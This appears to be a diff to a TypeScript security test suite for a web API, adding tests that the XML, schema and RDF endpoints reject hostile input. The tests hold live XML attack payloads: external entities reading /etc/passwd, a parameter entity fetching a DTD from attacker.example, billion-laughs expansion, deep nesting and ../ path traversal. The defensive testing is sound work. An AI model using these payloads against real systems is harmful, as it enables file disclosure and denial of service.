@@ -1,8 +1,10 @@
+import { createHash } from 'node:crypto';
+import { readFileSync } from 'node:fs';
 import { readdir } from 'node:fs/promises';
 import http from 'node:http';
 import net from 'node:net';
 import path from 'node:path';
-import { form, makeZip, SP_CT_ID, startAppUnderTest, storedNames, type AppUnderTest } from './app-helpers';
+import { form, makeZip, SP_CT_ID, startAppUnderTest, STATE_POPULATION, storedNames, type AppUnderTest } from './app-helpers';
 
 const LIMIT = 1024 * 1024;
 
@@ -10,16 +12,48 @@ let app: AppUnderTest;
 beforeAll(async () => {
   app = await startAppUnderTest({ maxUploadBytes: LIMIT });
 });
-afterAll(() => app?.close());
+afterAll(async () => {
+  console.log(`app-hostile: hostile inputs tried: ${hostileInputs.size}`);
+  await app?.close();
+});
 
-/** Every file under the storage directory, relative paths: hostile input must add nothing. */
-async function storageTree(): Promise<string[]> {
-  const entries = await readdir(app.storageDir, { recursive: true, withFileTypes: true });
-  return entries.filter((e) => e.isFile()).map((e) => path.relative(app.storageDir, path.join(e.parentPath, e.name))).sort();
+/** Digests of the distinct hostile requests sent (method, route, headers and body): repeats count once. */
+const hostileInputs = new Set<string>();
+async function countHostile(...parts: unknown[]): Promise<void> {
+  const hash = createHash('sha256');
+  for (const part of parts) {
+    if (part instanceof FormData) {
+      const entries: Array<[string, FormDataEntryValue]> = [];
+      part.forEach((value, name) => entries.push([name, value]));
+      for (const [name, value] of entries) hash.update(name).update(typeof value === 'string' ? value : Buffer.from(await value.arrayBuffer()));
+    } else hash.update(Buffer.isBuffer(part) || part instanceof Uint8Array ? part : JSON.stringify(part ?? null));
+  }
+  hostileInputs.add(hash.digest('hex'));
+}
+
+/** `target.call` for a hostile request: counted, then sent. */
+const hostileOn =
+  (target: () => AppUnderTest): AppUnderTest['call'] =>
+  async (method, route, init = {}) => {
+    await countHostile(method, route, init.headers, init.body);
+    return target().call(method, route, init);
+  };
+const hostile = hostileOn(() => app);
+
+/** Every file under a storage directory, relative paths, once staged uploads are gone (they are removed just
+ * after the response is sent): hostile input must add nothing. */
+async function storageTree(dir = app.storageDir): Promise<string[]> {
+  for (let waited = 0; ; waited += 20) {
+    const entries = await readdir(dir, { recursive: true, withFileTypes: true });
+    const files = entries.filter((e) => e.isFile()).map((e) => path.relative(dir, path.join(e.parentPath, e.name))).sort();
+    if (waited >= 2000 || !files.some((f) => f.startsWith('.incoming'))) return files;
+    await new Promise((resolve) => setTimeout(resolve, 20));
+  }
 }
 
 /** Sends raw bytes on a fresh connection and returns what came back before the server closed it (or `waitMs`). */
 function raw(request: Buffer | string, options: { halfClose?: boolean; waitMs?: number } = {}): Promise<string> {
+  void countHostile('raw', request);
   const { port } = new URL(app.url);
   return new Promise((resolve) => {
     const socket = net.connect(Number(port), '127.0.0.1');
@@ -50,7 +84,84 @@ function patchName(zip: Buffer, from: string, to: Buffer): Buffer {
   return out;
 }
 
-const uploadZip = (name: string, content: Buffer) => app.call('POST', '/api/v1/upload/zip/', { body: form([{ field: 'file', name, content }]) });
+const uploadZip = (name: string, content: Buffer) => hostile('POST', '/api/v1/upload/zip/', { body: form([{ field: 'file', name, content }]) });
+
+const SP_XSD = readFileSync(path.join(STATE_POPULATION, `dm-${SP_CT_ID}.xsd`), 'utf8');
+const SP_XML = readFileSync(path.join(STATE_POPULATION, `dm-${SP_CT_ID}.xml`), 'utf8');
+const SP_ROOT = `<sdc4:dm-${SP_CT_ID} xmlns:sdc4="https://semanticdatacharter.com/ns/sdc4/">`;
+const withDoctype = (xml: string, internalSubset: string, reference = '') =>
+  xml.replace('<?xml version="1.0" encoding="UTF-8"?>', `<?xml version="1.0"?>\n<!DOCTYPE x [${internalSubset}]>`).replace('<dm-label>StatePopulation</dm-label>', `<dm-label>StatePopulation${reference}</dm-label>`);
+const LAUGHS = ['<!ENTITY l0 "lol">', ...Array.from({ length: 9 }, (_, i) => `<!ENTITY l${i + 1} "${`&l${i};`.repeat(10)}">`)].join('');
+
+/** Hostile documents, each refused as INVALID_XML (the 10 MB one passes the 20 MB upload limit, not the XML one). */
+const HOSTILE_XML: Array<[string, () => string]> = [
+  ['an external entity (XXE)', () => withDoctype(SP_XML, '<!ENTITY e SYSTEM "file:///etc/passwd">', '&e;')],
+  ['an external parameter entity', () => withDoctype(SP_XML, '<!ENTITY % p SYSTEM "http://attacker.example/evil.dtd"> %p;')],
+  ['an internal parameter entity declaring a general one', () => withDoctype(SP_XML, '<!ENTITY % d "<!ENTITY g \'x\'>"> %d;', '&g;')],
+  ['billion laughs', () => withDoctype(SP_XML, LAUGHS, '&l9;')],
+  ['an undeclared entity', () => SP_XML.replace('<dm-label>StatePopulation</dm-label>', '<dm-label>&nope;</dm-label>')],
+  ['XML nested 100,000 deep', () => `${SP_ROOT}${'<a>'.repeat(100_000)}${'</a>'.repeat(100_000)}</sdc4:dm-${SP_CT_ID}>`],
+  ['a 10 MB text node', () => SP_XML.replace('<xdstring-value>DefaultString</xdstring-value>', `<xdstring-value>${'x'.repeat(10 * 1024 * 1024)}</xdstring-value>`)],
+];
+
+describe('hostile XML on validate/xml and as an uploaded schema (20 MB upload limit)', () => {
+  let big: AppUnderTest;
+  const send = hostileOn(() => big);
+  const instances = async () => Number((await big.services.db.query('SELECT count(*)::int AS n FROM app_instances'))[0].n);
+  const tree = () => storageTree(big.storageDir);
+
+  beforeAll(async () => {
+    big = await startAppUnderTest();
+    const uploaded = await big.call('POST', '/api/v1/upload/schema/', { body: form([{ field: 'files', name: `dm-${SP_CT_ID}.xsd`, content: SP_XSD }]) });
+    expect(uploaded.body.data.stored_files).toHaveLength(1);
+  });
+  afterAll(() => big?.close());
+
+  it.each(HOSTILE_XML)('%s: 400 INVALID_XML as a JSON body and as a file, nothing stored, quickly', async (_label, make) => {
+    const xml = make();
+    const [before, files] = [await instances(), await tree()];
+    const started = Date.now();
+    for (const res of [
+      await send('POST', '/api/v1/validate/xml/', { body: JSON.stringify({ xml_content: xml }), headers: { 'content-type': 'application/json' } }),
+      await send('POST', '/api/v1/validate/xml/', { body: form([{ field: 'file', name: 'hostile.xml', content: xml }]) }),
+    ]) {
+      expect(res.status).toBe(400);
+      expect(res.body).toMatchObject({ success: false, error: { code: 'INVALID_XML', message: expect.any(String) } });
+      expect(res.text).not.toContain('root:');
+    }
+    expect(Date.now() - started).toBeLessThan(10_000);
+    expect(await instances()).toBe(before);
+    expect(await tree()).toEqual(files);
+  }, 30_000);
+
+  it.each([
+    ['an external entity', `<!DOCTYPE xsd:schema [<!ENTITY e SYSTEM "file:///etc/passwd">]>${SP_XSD.replace(/^<\?xml[^>]*>/, '')}`],
+    ['billion laughs', `<!DOCTYPE xsd:schema [${LAUGHS}]>${SP_XSD.replace(/^<\?xml[^>]*>/, '').replace('<xsd:schema ', '<!-- &l9; --><xsd:schema ')}`],
+    ['nesting 100,000 deep', SP_XSD.replace('</xsd:schema>', `<xsd:annotation><xsd:documentation>${'<a>'.repeat(100_000)}${'</a>'.repeat(100_000)}</xsd:documentation></xsd:annotation></xsd:schema>`)],
+  ])('a schema with %s is never expanded: validating against it is a 4xx in the contract shape, nothing stored', async (_label, xsd) => {
+    const other = 'hostile0schema0ct0id0000';
+    const uploaded = await send('POST', '/api/v1/upload/schema/', { body: form([{ field: 'files', name: `dm-${other}.xsd`, content: xsd.replaceAll(SP_CT_ID, other) }]) });
+    expect(uploaded.status).toBeLessThan(500);
+    const before = await instances();
+    const res = await send('POST', '/api/v1/validate/xml/', { body: JSON.stringify({ xml_content: SP_XML.replaceAll(SP_CT_ID, other) }), headers: { 'content-type': 'application/json' } });
+    expect(res.status).toBeGreaterThanOrEqual(400);
+    expect(res.status).toBeLessThan(500);
+    expect(res.body).toMatchObject({ success: false, error: { code: expect.stringMatching(/^(INVALID_XML|VALIDATION_FAILED|SCHEMA_NOT_FOUND)$/), message: expect.any(String) } });
+    expect(res.text).not.toContain('root:');
+    expect(await instances()).toBe(before);
+  }, 30_000);
+
+  it('percent-encoded invalid UTF-8, a NUL or ../ in an instance id is a 4xx in the contract shape, never a 500 (a NUL was a 500)', async () => {
+    for (const id of ['%FF%FE', '%C0%AF', '%ED%A0%80']) {
+      const res = await send('GET', `/api/v1/instances/${id}/`);
+      expect({ id, status: res.status, body: res.body }).toEqual({ id, status: 400, body: expect.objectContaining({ success: false, error_code: 'VALIDATION_ERROR', error: expect.stringMatching(/^Malformed URL/) }) });
+    }
+    for (const id of ['..%2F..%2Fetc%2Fpasswd', '%00', 'x%00y']) {
+      const res = await send('GET', `/api/v1/instances/${id}/`);
+      expect({ id, status: res.status, code: res.body?.error?.code ?? res.body?.error_code }).toEqual({ id, status: 404, code: expect.any(String) });
+    }
+  });
+});
 
 describe('zip bombs and escaping entry names', () => {
   it.each([
@@ -81,7 +192,7 @@ describe('zip bombs and escaping entry names', () => {
 
 describe('multipart abuse', () => {
   it('no boundary: 400 in the general format', async () => {
-    const res = await app.call('POST', '/api/v1/upload/zip/', { body: 'whatever', headers: { 'content-type': 'multipart/form-data' } });
+    const res = await hostile('POST', '/api/v1/upload/zip/', { body: 'whatever', headers: { 'content-type': 'multipart/form-data' } });
     expect(res.status).toBe(400);
     expect(res.body).toMatchObject({ success: false, error_code: 'VALIDATION_ERROR', error: expect.stringMatching(/boundary/i) });
   });
@@ -90,6 +201,7 @@ describe('multipart abuse', () => {
     const before = await storageTree();
     const { port } = new URL(app.url);
     let sent = 0;
+    await countHostile('an endless multipart part');
     const outcome = await new Promise<{ status: number; body: string }>((resolve, reject) => {
       const req = http.request({
         host: '127.0.0.1',
@@ -162,10 +274,10 @@ describe('multipart abuse', () => {
       ['/api/v1/upload/rdf/', 'file'],
       ['/api/v1/validate/xml/', 'file'],
     ] as const) {
-      const res = await app.call('POST', route, { body: form([{ field, name: `dm-${SP_CT_ID}.ttl`, content: big }]) });
+      const res = await hostile('POST', route, { body: form([{ field, name: `dm-${SP_CT_ID}.ttl`, content: big }]) });
       expect({ route, status: res.status, code: res.body.error_code }).toEqual({ route, status: 413, code: 'FILE_TOO_LARGE' });
     }
-    const json = await app.call('POST', '/api/v1/validate/xml/', { body: JSON.stringify({ xml_content: ' '.repeat(LIMIT) }), headers: { 'content-type': 'application/json' } });
+    const json = await hostile('POST', '/api/v1/validate/xml/', { body: JSON.stringify({ xml_content: ' '.repeat(LIMIT) }), headers: { 'content-type': 'application/json' } });
     expect(json.status).toBe(413);
     expect(await storageTree()).toEqual(before);
   });
@@ -184,7 +296,7 @@ describe('schema filenames', () => {
     [`dm-${SP_CT_ID}.xsd.`, 'extension'],
   ])('%s goes into errors (%s message) and nothing is written anywhere', async (name, reason) => {
     const before = await storageTree();
-    const res = await app.call('POST', '/api/v1/upload/schema/', { body: form([{ field: 'files', name, content: '<xs:schema/>' }]) });
+    const res = await hostile('POST', '/api/v1/upload/schema/', { body: form([{ field: 'files', name, content: '<xs:schema/>' }]) });
     expect(res.status).toBe(201);
     expect(res.body.data.stored_files).toEqual([]);
     expect(res.body.data.errors).toEqual([{ filename: name, error: reason === 'extension' ? expect.stringContaining('.xsd, .html, .owl') : expect.stringContaining('dm-{ct_id}') }]);
@@ -196,7 +308,7 @@ describe('schema filenames', () => {
     const head = Buffer.from('--B\r\nContent-Disposition: form-data; name="files"; filename="dm-');
     const tail = Buffer.from('.xsd"\r\n\r\n<xs:schema/>\r\n--B--\r\n');
     const body = Buffer.concat([head, Buffer.from([0xc3, 0x28, 0xff]), tail]);
-    const res = await app.call('POST', '/api/v1/upload/schema/', { body, headers: { 'content-type': 'multipart/form-data; boundary=B' } });
+    const res = await hostile('POST', '/api/v1/upload/schema/', { body, headers: { 'content-type': 'multipart/form-data; boundary=B' } });
     expect(res.status).toBe(201);
     expect(res.body.data.stored_files).toEqual([]);
     expect(res.body.data.errors).toHaveLength(1);
@@ -209,7 +321,7 @@ describe('keys and encodings', () => {
     const response = await raw(`GET /api/v1/whoami/ HTTP/1.1\r\nHost: x\r\nX-API-Key: ${'k'.repeat(1024 * 1024)}\r\n\r\n`);
     expect(statusOf(response)).toBe(431);
     expect(bodyOf(response)).toMatchObject({ success: false, error_code: 'REQUEST_HEADERS_TOO_LARGE' });
-    const long = await app.call('GET', '/api/v1/whoami/', { headers: { 'x-api-key': 'k'.repeat(10 * 1024) } });
+    const long = await hostile('GET', '/api/v1/whoami/', { headers: { 'x-api-key': 'k'.repeat(10 * 1024) } });
     expect(long.status).toBe(401);
     expect(long.body.error_code).toBe('AUTHENTICATION_ERROR');
   });
@@ -223,17 +335,17 @@ describe('keys and encodings', () => {
   it('invalid UTF-8: a JSON body is 400 VALIDATION_ERROR, an XML file INVALID_XML, an RDF file PARSING_ERROR', async () => {
     const before = await storageTree();
     const badJson = Buffer.concat([Buffer.from('{"xml_content": "<a>'), Buffer.from([0xff, 0xfe]), Buffer.from('</a>"}')]);
-    const json = await app.call('POST', '/api/v1/validate/xml/', { body: badJson, headers: { 'content-type': 'application/json' } });
+    const json = await hostile('POST', '/api/v1/validate/xml/', { body: badJson, headers: { 'content-type': 'application/json' } });
     expect(json.status).toBe(400);
     expect(json.body).toMatchObject({ success: false, error_code: 'VALIDATION_ERROR', error: expect.stringContaining('UTF-8') });
 
     const badXml = Buffer.concat([Buffer.from('<?xml version="1.0" encoding="UTF-8"?><a>'), Buffer.from([0xc3, 0x28]), Buffer.from('</a>')]);
-    const xml = await app.call('POST', '/api/v1/validate/xml/', { body: form([{ field: 'file', name: 'a.xml', content: badXml }]) });
+    const xml = await hostile('POST', '/api/v1/validate/xml/', { body: form([{ field: 'file', name: 'a.xml', content: badXml }]) });
     expect(xml.status).toBe(400);
     expect(xml.body.error).toMatchObject({ code: 'INVALID_XML', details: { root_tag: null } });
 
     const badTtl = Buffer.concat([Buffer.from('<http://a> <http://b> "'), Buffer.from([0xff]), Buffer.from('" .')]);
-    const rdf = await app.call('POST', '/api/v1/upload/rdf/', { body: form([{ field: 'file', name: `dm-${SP_CT_ID}.ttl`, content: badTtl }]) });
+    const rdf = await hostile('POST', '/api/v1/upload/rdf/', { body: form([{ field: 'file', name: `dm-${SP_CT_ID}.ttl`, content: badTtl }]) });
     expect(rdf.status).toBe(400);
     expect(rdf.body.error.code).toBe('PARSING_ERROR');
     expect(await storageTree()).toEqual(before);
@@ -244,7 +356,7 @@ describe('keys and encodings', () => {
     const rdfXml = (dtd: string, ref: string) =>
       `<?xml version="1.0"?><!DOCTYPE rdf:RDF [${dtd}]><rdf:RDF xmlns:rdf="http://www.w3.org/1999/02/22-rdf-syntax-ns#" xmlns:ex="http://ex/"><rdf:Description rdf:about="http://a"><ex:p>${ref}</ex:p></rdf:Description></rdf:RDF>`;
     for (const content of [rdfXml(levels.join(''), '&i;'), rdfXml('<!ENTITY x SYSTEM "file:///etc/passwd">', '&x;'), rdfXml('<!ENTITY big "' + 'b'.repeat(1000) + '">', '&big;'.repeat(2000))]) {
-      const res = await app.call('POST', '/api/v1/upload/rdf/', { body: form([{ field: 'file', name: `dm-${SP_CT_ID}.rdf`, content }]) });
+      const res = await hostile('POST', '/api/v1/upload/rdf/', { body: form([{ field: 'file', name: `dm-${SP_CT_ID}.rdf`, content }]) });
       expect(res.status).toBe(400);
       expect(res.body.error.code).toBe('PARSING_ERROR');
     }
